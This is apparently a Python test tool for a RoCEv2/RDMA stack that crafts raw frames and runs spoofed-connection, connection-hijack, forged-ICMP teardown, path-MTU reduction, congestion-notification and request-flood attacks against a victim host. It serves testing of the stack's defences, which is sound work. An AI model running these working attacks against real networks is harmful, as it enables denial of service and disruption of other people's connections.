#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""A peer that says what it likes: raw RoCEv2 frames with right ICRCs, for test/apps/hostile/hostile.sh.

hostile.py IFACE VICTIM_MAC ATTACK [KEY=VALUE...]

Attacks are the functions below whose names begin with 'attack_'; the keys are their arguments. Each prints what it has seen, a line each."""

import os
import random
import socket
import struct
import sys
import time
import zlib

ROCE = 4791
OUTGOING = 4  # PACKET_OUTGOING
REQ, MRA, REJ, REP, RTU, DREQ, DREP = 0x10, 0x11, 0x12, 0x13, 0x14, 0x15, 0x16
NAMES = {REQ: "REQ", MRA: "MRA", REJ: "REJ", REP: "REP", RTU: "RTU", DREQ: "DREQ", DREP: "DREP"}
CNP, UD_SEND_ONLY = 0x81, 0x64
PKEY = 0xFFFF

# --- frames ---


def address(text):
    return socket.inet_pton(socket.AF_INET6 if ":" in text else socket.AF_INET, text)


def show(addr):
    return socket.inet_ntop(socket.AF_INET6 if len(addr) == 16 else socket.AF_INET, addr)


def gid(addr):
    return addr if len(addr) == 16 else bytes(10) + b"\xff\xff" + addr


def checksum(data):
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return struct.pack("!H", ~s & 0xFFFF)


def bth(opcode, dqpn, psn=0, pkey=PKEY, becn=0):
    return struct.pack("!BBHII", opcode, 0, pkey, becn << 30 | dqpn, psn)


def icrc(ip, udp, rest):
    """CRC-32 over 8 bytes of ones and the packet, with ones in place of what routers change (IBTA volume 1, annex A17)."""
    ip, udp, rest = bytearray(ip), bytearray(udp), bytearray(rest)
    if ip[0] >> 4 == 4:
        ip[1] = ip[8] = ip[10] = ip[11] = 0xFF
    else:
        ip[0] |= 0x0F
        ip[1] = ip[2] = ip[3] = ip[7] = 0xFF
    udp[6] = udp[7] = rest[4] = 0xFF
    return struct.pack("<I", zlib.crc32(b"\xff" * 8 + bytes(ip) + bytes(udp) + bytes(rest)))


def frame(dmac, src, dst, rest, tos=0):
    """`rest` begins with the BTH; source and destination are whatever they are said to be."""
    length = 8 + len(rest) + 4
    udp = struct.pack("!HHHH", 0xC000, ROCE, length, 0)
    if len(src) == 4:
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, tos, 20 + length, 0, 0x4000, 64, 17, 0, src, dst)
        ip = ip[:10] + checksum(ip) + ip[12:]
    else:
        ip = struct.pack("!IHBB16s16s", 6 << 28 | tos << 20, length, 17, 64, src, dst)
    kind = b"\x08\0" if len(src) == 4 else b"\x86\xdd"
    return dmac + b"\x02\0\0\0\0\x99" + kind + ip + udp + rest + icrc(ip, udp, rest)


# --- management datagrams ---


def mad(attr, body, tid=None):
    tid = random.getrandbits(64) if tid is None else tid
    head = struct.pack("!BBBBHHQHHI", 1, 7, 2, 3, 0, 0, tid, attr, 0, 0)
    return bth(UD_SEND_ONLY, 1) + struct.pack("!II", 0x80010000, 1) + head + body.ljust(232, b"\0")


def cma_header(src, dst, port=4000):
    version = 4 if len(src) == 4 else 6
    return struct.pack("!BBH", 0, version << 4, port) + src.rjust(16, b"\0") + dst.rjust(16, b"\0")


def req(port, src, dst, header, guid=5, qpn=None, comm_id=None, timeout=20, retries=15):
    """A REQ for a port of RDMA_PS_TCP that asks for an RC connection with an MTU of 1024."""
    comm_id = comm_id or random.getrandbits(31) | 1
    qpn = qpn if qpn is not None else random.getrandbits(24)
    body = struct.pack("!IIQQIIIIIIHBB", comm_id, 0, 0x01060000 | port, guid, 0, 0, qpn << 8 | 1, 1, timeout << 3,
                       random.getrandbits(24) << 8 | timeout << 3 | 7, PKEY, 3 << 4 | 7, retries << 4)
    body += b"\xff" * 4 + gid(src) + gid(dst) + struct.pack("!IBBBB", 0, 0, 64, 0, 16 << 3)
    return mad(REQ, body.ljust(140, b"\0") + header)


def icmp_error(dmac, src, dst, quoted, mtu=0):
    """From anybody: port unreachable, or too long for a hop with that MTU, about this packet (RFC 792, RFC 4443)."""
    if len(src) == 4:
        message = (b"\3\4\0\0" if mtu else b"\3\3\0\0") + struct.pack("!I", mtu) + quoted
        message += bytes(len(message) % 2)
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(message), 0, 0, 64, 1, 0, src, dst)
        ip, sums = ip[:10] + checksum(ip) + ip[12:], message
    else:
        message = (b"\2\0\0\0" if mtu else b"\1\4\0\0") + struct.pack("!I", mtu) + quoted
        message += bytes(len(message) % 2)
        ip = struct.pack("!IHBB16s16s", 6 << 28, len(message), 58, 64, src, dst)
        sums = src + dst + struct.pack("!II", len(message), 58) + message
    kind = b"\x08\0" if len(src) == 4 else b"\x86\xdd"
    return dmac + b"\x02\0\0\0\0\x99" + kind + ip + message[:2] + checksum(sums) + message[4:]


# --- the wire ---


class Wire:
    def __init__(self, iface, dmac):
        self.s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.s.setsockopt(socket.SOL_SOCKET, 33, 1 << 24)  # SO_RCVBUFFORCE
        self.s.bind((iface, 0))
        self.dmac = dmac
        self.ip = b""  # the last packet, from its IP header on
        print("ready", flush=True)

    def send(self, src, dst, rest, **how):
        self.s.send(frame(self.dmac, src, dst, rest, **how))

    def packets(self, seconds):
        """(is the victim's, source, destination, what begins with the BTH) of all RoCEv2 packets of so many seconds."""
        end = time.monotonic() + seconds
        while (left := end - time.monotonic()) > 0:
            self.s.settimeout(left)
            try:
                f, where = self.s.recvfrom(65536)
            except socket.timeout:
                return
            ip = f[14:]
            if f[12:14] == b"\x08\0" and ip[9] == 17:
                src, dst, udp = ip[12:16], ip[16:20], ip[(ip[0] & 15) * 4:]
            elif f[12:14] == b"\x86\xdd" and ip[6] == 17:
                src, dst, udp = ip[8:24], ip[24:40], ip[40:]
            else:
                continue
            if udp[2:4] == struct.pack("!H", ROCE) and len(udp) >= 20:
                self.ip = ip
                yield where[2] != OUTGOING, src, dst, udp[8:]

    def mads(self, seconds):
        """(is the victim's, source, destination, attribute, body)"""
        for theirs, src, dst, p in self.packets(seconds):
            if p[0] == UD_SEND_ONLY and p[5:8] == b"\0\0\1" and len(p) >= 276:
                m = p[20:276]
                yield theirs, src, dst, struct.unpack_from("!H", m, 16)[0], m[24:]


def print_answers(wire, seconds=0.4):
    for theirs, _, dst, attr, body in wire.mads(seconds):
        if theirs:
            reason = " %d" % struct.unpack_from("!H", body, 10) if attr == REJ else ""
            print("answer %s%s to %s" % (NAMES.get(attr, hex(attr)), reason, show(dst)))


# --- attacks ---


def attack_requests(wire, victim, port, sources):
    """A REQ from each of these addresses, each with a header that agrees with it."""
    dst = address(victim)
    for s in sources.split(","):
        src = address(s)
        wire.send(src, dst, req(int(port), src, dst, cma_header(src, dst)))
    print_answers(wire)


def attack_liars(wire, victim, port, source, claims):
    """REQs from one address whose headers name these."""
    src, dst = address(source), address(victim)
    for c in claims.split(","):
        wire.send(src, dst, req(int(port), src, dst, cma_header(address(c), dst)))
    print_answers(wire)


def attack_stale(wire, victim, port, times=20):
    """Waits for somebody else's connection to be there, and says in its name that it has forgotten it."""
    seen = {}
    for _, src, dst, attr, body in wire.mads(10):
        if attr == REQ and dst == address(victim):
            seen[struct.unpack_from("!I", body)[0]] = src, struct.unpack_from("!Q", body, 16)[0], struct.unpack_from("!I", body, 32)[0] >> 8
        if attr == RTU and struct.unpack_from("!I", body)[0] in seen:
            break
    else:
        sys.exit("no connection was seen")
    src, guid, qpn = seen[struct.unpack_from("!I", body)[0]]
    print("connection of QP %#x" % qpn)
    for _ in range(int(times)):
        time.sleep(0.02)
        dst = address(victim)
        wire.send(src, dst, req(int(port), src, dst, cma_header(src, dst), guid=guid, qpn=qpn))
    print_answers(wire)


def attack_congestion(wire, victim, times=50):
    """Congestion notifications of another partition, to each QP of the victim's that somebody talks to."""
    qps = set()
    for theirs, src, dst, p in wire.packets(5):
        qpn = int.from_bytes(p[5:8], "big")
        if not theirs and dst == address(victim) and qpn > 1 and (src, qpn) not in qps:
            qps.add((src, qpn))
            for _ in range(int(times)):
                wire.send(src, dst, bth(CNP, qpn, pkey=0x1234, becn=1) + bytes(16))
            break
    print("notified %d" % (len(qps) * int(times)))


def wait_for_request(wire, dst, seconds):
    """The next REQ of the victim's to that address: its IP header and UDP header, and what begins with the BTH."""
    for theirs, _, to, attr, _ in wire.mads(seconds):
        if theirs and to == dst and attr == REQ:
            at = (20 if len(dst) == 4 else 40) + 8
            return wire.ip[:at], wire.ip[at:]
    return None


def attack_unreachable(wire, victim, peer):
    """Says that the peer of a connection that is being made cannot be reached: first as somebody who has seen nothing of it but addresses and
    ports, then as a router that has."""
    src, dst = address(victim), address(peer)
    seen = wait_for_request(wire, dst, 20)
    if not seen:
        sys.exit("nobody asks for a connection")
    head, rest = seen
    psn = struct.unpack_from("!I", rest, 8)[0]
    forged = [bth(UD_SEND_ONLY, 1, (psn + n) & 0xFFFFFF) for n in (1, 2, 0x800000)]
    forged += [bth(UD_SEND_ONLY, 0x1234, psn), bth(UD_SEND_ONLY, 0, psn), bth(4, 1, psn)]
    for f in forged:
        for size in (12, len(rest)):
            wire.s.send(icmp_error(wire.dmac, dst, src, head + (f + rest[12:])[:size]))
    wire.s.send(icmp_error(wire.dmac, dst, src, head))
    seen = wait_for_request(wire, dst, 20)
    if not seen:
        sys.exit("a forged error has ended it")
    print("it asks again")
    head, rest = seen
    wire.s.send(icmp_error(wire.dmac, dst, src, head + rest[:200]))


def path_mtu_of_request(wire, dst):
    """What the next request of the victim's asks for, in bytes."""
    seen = wait_for_request(wire, dst, 20)
    if not seen:
        sys.exit("nobody asks for a connection")
    print("asked for %d" % (128 << (seen[1][20 + 24 + 50] >> 4)), flush=True)


def attack_too_long(wire, victim, peer, mtu, times=20):
    """Says for a while, as somebody who knows addresses and ports, that packets of the victim's are too long for a hop. Shows what requests
    before and after that ask for."""
    src, dst = address(victim), address(peer)
    path_mtu_of_request(wire, dst)
    for theirs, _, to, p in wire.packets(20):
        if theirs and to == dst and len(p) > int(mtu):
            break
    else:
        sys.exit("no long packet was seen")
    head, guess = wire.ip[:(20 if len(dst) == 4 else 40) + 8], bth(p[0], 0x123456, 0x654321) + p[12:500]
    for _ in range(int(times)):
        for quoted in (head, head + guess[:12], head + guess):
            wire.s.send(icmp_error(wire.dmac, dst, src, quoted, mtu=int(mtu)))
        time.sleep(0.02)
    print("forged", flush=True)
    path_mtu_of_request(wire, dst)


def attack_flood(wire, victim, ports, seconds, hosts, rate=1e9, least=0):
    """
    REQs from that many addresses of the victim's subnet (IPv6) in turn, by turns to these ports, at most `rate` in a second. For so many seconds, or on a
    busy machine longer, until `least` have been sent.
    """
    dst, ports, n = address(victim), [int(p) for p in ports.split(",")], 0
    subnet = dst[:8] + os.urandom(4)
    begin = time.monotonic()
    while (now := time.monotonic() - begin) < float(seconds) or (n < int(least) and now < 20 * float(seconds)):
        time.sleep(max(0, n / float(rate) - now))
        src = subnet + struct.pack("!I", n % int(hosts))
        try:
            wire.send(src, dst, req(ports[n % len(ports)], src, dst, cma_header(src, dst)))
        except OSError:  # the cable's queue is full
            continue
        n += 1
    print("sent %d" % n)


def attack_numbers(wire, victim, connections):
    """Looks at so many REPs: no number of one tells anything of the next one's."""
    seen = []
    for theirs, src, _, attr, body in wire.mads(20):
        if theirs and attr == REP and src == address(victim):
            qpn, psn = struct.unpack_from("!I", body, 12)[0] >> 8, struct.unpack_from("!I", body, 20)[0] >> 8
            seen.append((struct.unpack_from("!I", body)[0] & 0xFFFFFF, qpn & 0xFFFF, psn))
        if len(seen) == int(connections):
            break
    print("seen %d" % len(seen))
    for name, column in zip(("communication id", "QPN", "PSN"), zip(*seen)):
        steps = [b - a for a, b in zip(column, column[1:])]
        if len(set(steps)) < len(steps) or any(abs(s) < 8 for s in steps):
            print("predictable %s: %s" % (name, column))


def main():
    iface, mac, name = sys.argv[1:4]
    attack = globals().get("attack_" + name)
    if not attack:
        sys.exit("there is no attack '%s': %s" % (name, ", ".join(n[7:] for n in globals() if n.startswith("attack_"))))
    args = dict(a.split("=", 1) for a in sys.argv[4:])
    attack(Wire(iface, bytes.fromhex(mac.replace(":", ""))), **args)


main()
